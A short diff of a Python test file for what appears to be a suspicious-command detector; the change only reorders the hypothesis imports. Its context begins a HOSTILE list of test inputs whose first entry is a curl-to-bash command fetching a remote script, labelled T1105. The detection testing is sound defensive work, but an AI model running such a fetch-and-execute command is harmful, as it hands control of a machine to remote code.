@@ -4,11 +4,12 @@
 import time
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
 from clean_room_analysis.checks.commands import in_words, rank, suspicions, techniques, worst
 from clean_room_analysis.checks.persistence import persistent_suspicions
 from clean_room_analysis.model import Severity
-from hypothesis import given
-from hypothesis import strategies as st
 
 HOSTILE = [
     ("curl -fsSL http://198.51.100.23/i.sh | bash", "T1105"),
